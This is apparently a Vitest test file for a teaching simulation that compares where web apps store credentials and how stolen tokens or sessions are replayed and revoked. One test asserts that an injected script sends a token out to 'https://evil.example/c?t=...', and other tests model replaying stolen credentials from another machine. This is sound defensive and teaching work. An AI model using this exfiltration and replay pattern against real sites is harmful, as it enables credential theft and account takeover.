// Chapters 4 and 5: a stolen credential, used from elsewhere, and how it ends. Browser-apps §5.1, RFC 6265bis §8.3.
import { describe, expect, it } from 'vitest'
import type { Action } from '../../vocabulary/actions'
import type { Design } from '../../vocabulary/designs'
import {
  copy,
  everywhere,
  exchanges,
  jarOf,
  kim,
  kimOnPhone,
  lastAnswer,
  lastWorld,
  logOut,
  me,
  meOnPhone,
  play,
  replay,
  revoke,
  statusesOf,
  type Turned,
  transcriptOf,
  wait,
} from './tell'

const inject: Action = { do: 'inject-script' }

describe('§4 script in the page', () => {
  it.each([
    ['localStorage', 'jwt', { tokenStorage: 'localStorage' }, 'jwt'],
    ['sessionStorage', 'jwt', { tokenStorage: 'sessionStorage' }, 'jwt'],
    ['memory: it cannot read a variable', 'jwt', { tokenStorage: 'memory' }, null],
    ['a cookie with HttpOnly: undefined', 'session', { httpOnly: 'on' }, null],
    ['a cookie without HttpOnly', 'session', { httpOnly: 'off' }, 'session-id'],
    ['hybrid: it asks for a token, as the page would', 'hybrid', {}, 'jwt'],
  ] as [string, Design, Turned, string | null][])('§4 row 3, %s', async (_name, design, knobs, kind) => {
    const trace = await play(design, [kim, inject], knobs)
    expect(lastWorld(trace).attacker.loot.map((l) => l.kind)).toEqual(kind ? [kind] : [])
  })

  it('§4 row 4: what it read leaves the browser as an image of evil.example, without cookies', async () => {
    const trace = await play('jwt', [kim, inject])
    const token = lastWorld(trace).browser.localStorage.access_token
    const sent = trace.steps.find((s) => s.event.kind === 'request' && s.event.to === 'attacker')?.event
    expect(sent).toMatchObject({
      from: 'browser',
      initiator: 'injected',
      message: { method: 'GET', url: `https://evil.example/c?t=${token}` },
    })
    const names = sent?.kind === 'request' ? sent.message.headers.map(([name]) => name) : []
    expect(names).not.toContain('Cookie')
    expect(names).not.toContain('Authorization')
  })

  it('§4 rows 5-8: replay until exp, from another machine', async () => {
    const trace = await play('jwt', [kim, inject, replay, wait(899), replay, wait(1), replay])
    expect(transcriptOf(trace, '/me')).toEqual([
      'T0+0 attacker GET /me: 200',
      'T0+899 attacker GET /me: 200',
      'T0+900 attacker GET /me: 401 invalid-token',
    ])
    const stolen = exchanges(trace).find((e) => e.from === 'attacker')
    expect(stolen?.request.headers.map(([name]) => name)).toEqual(['Host', 'Authorization'])
  })

  it('§4a the owner’s log-out at T0+60 changes nothing', async () => {
    const trace = await play('jwt', [kim, inject, wait(60), logOut, replay])
    expect(lastAnswer(trace).response.status).toBe(200)
  })

  it('§4d a short life does not end it while the page lives', async () => {
    const turns = [wait(300), inject, replay]
    const trace = await play('hybrid', [kim, ...turns, ...turns, ...turns], { tokenLifetime: 300 })
    expect(statusesOf(trace, 'attacker')).toEqual([200, 200, 200])
  })
})

describe('§5 a stolen session', () => {
  it.each([
    ['the owner revokes', revoke],
    ['log out everywhere', everywhere],
    ['the owner logs out', logOut],
  ] as [string, Action][])('§5 rows 2-5, %s: 401 at the very next request, for both', async (_name, end) => {
    const trace = await play('session', [kim, copy, replay, me, wait(60), end, replay, me])
    const told = transcriptOf(trace, '/me')
    expect(told.slice(0, 2)).toEqual(['T0+0 attacker GET /me: 200', 'T0+0 browser GET /me: 200'])
    expect(told[2]).toBe('T0+60 attacker GET /me: 401 unknown-session')
    expect(told[3]).toBe(`T0+60 browser GET /me: 401 ${end === logOut ? 'no-credential' : 'unknown-session'}`)
  })

  it('§5 a prefix binds browsers: the thief’s client sends it like any other name', async () => {
    const trace = await play('session', [kim, copy, replay])
    const sid = jarOf(lastWorld(trace))['__Host-sid']
    expect(lastAnswer(trace).request.headers).toEqual([
      ['Host', 'shop.example'],
      ['Cookie', `__Host-sid=${sid}`],
    ])
  })

  it('§5 one line struck: the other device stays', async () => {
    const trace = await play('session', [kim, kimOnPhone, revoke, me, meOnPhone])
    expect(transcriptOf(trace, '/me')).toEqual([
      'T0+0 browser GET /me: 401 unknown-session',
      'T0+0 phone GET /me: 200',
    ])
  })

  it('§5 everywhere: both devices are out, and another user is not', async () => {
    const lee: Action = { do: 'log-in', as: 'lee', device: 'phone' }
    const both = await play('session', [kim, kimOnPhone, everywhere, me, meOnPhone])
    expect(statusesOf(both).concat(statusesOf(both, 'phone'))).toEqual([401, 401])
    const other = await play('session', [kim, lee, everywhere, me, meOnPhone])
    expect(statusesOf(other).concat(statusesOf(other, 'phone'))).toEqual([401, 200])
  })

  it('§5 not instant: a node that believes its copy for c seconds answers 200 until then', async () => {
    const trace = await play(
      'session',
      [kim, copy, wait(60), replay, wait(5), revoke, replay, wait(24), replay, wait(1), replay],
      { lookupCache: 30 },
    )
    expect(transcriptOf(trace, '/me')).toEqual([
      'T0+60 attacker GET /me: 200',
      'T0+65 attacker GET /me: 200',
      'T0+89 attacker GET /me: 200',
      'T0+90 attacker GET /me: 401 unknown-session',
    ])
  })

  it('§5 but the node that strikes the line itself believes nothing any more', async () => {
    const trace = await play('session', [kim, copy, me, logOut, replay], { lookupCache: 3600 })
    expect(lastAnswer(trace)).toMatchObject({ from: 'attacker', refusal: 'unknown-session' })
  })

  it('§5 and another node goes on believing', async () => {
    const trace = await play('session', [kim, copy, replay, replay, logOut, replay, replay], {
      servers: 2,
      lookupCache: 30,
    })
    expect(transcriptOf(trace, '/me').map((l) => l.slice(-3))).toEqual(['200', '200', 'ion', '200'])
  })

  it('§5 what is believed is not believed past its own limits: another server may have seen more', async () => {
    const knobs = { servers: 2, lookupCache: 3600 }
    const trace = await play('session', [kim, wait(600), me, me, wait(300), me], knobs)
    expect(transcriptOf(trace, '/me').at(-1)).toBe('T0+900 browser GET /me: 200')
  })
})
